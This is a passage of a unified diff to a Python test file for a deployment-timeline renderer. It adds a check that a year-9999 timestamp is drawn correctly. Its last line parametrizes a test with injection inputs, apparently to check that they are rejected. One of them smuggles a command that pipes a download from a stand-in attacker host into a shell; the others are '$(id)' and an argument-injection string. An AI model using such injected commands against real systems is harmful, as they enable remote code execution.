@@ -84,7 +84,7 @@ def test_an_axis_of_counts_has_whole_numbers(most: int) -> None:
 
 
 def test_deployments_lie_along_time_by_line() -> None:
-    """A failed one is told apart, and lanes beyond those that have room are counted."""
+    """A failed one is told apart, lanes beyond those that have room are counted, and time ends."""
     rows = [
         {"service": f"s{at:02d}", "environment": "production", "kind": "planned",
          "deployment": f"d{at}", "finished_at": NOON + timedelta(hours=at),
@@ -97,6 +97,10 @@ def test_deployments_lie_along_time_by_line() -> None:
     assert found.left_out == 6
     assert "<title>d1: failure, 2026-03-31 13:34 UTC</title>" in found.drawing
     assert timeline.along([{**rows[0], "finished_at": None}]) is None
+    last = datetime(9999, 12, 31, 23, 30, tzinfo=UTC)
+    found = timeline.along([{**rows[0], "finished_at": last}])
+    assert found is not None
+    assert "9999-12-31 23:30 UTC" in found.drawing
 
 
 @pytest.mark.parametrize("name", ["x; curl evil.example|sh #", "$(id)", "--data=/tmp/theirs"])
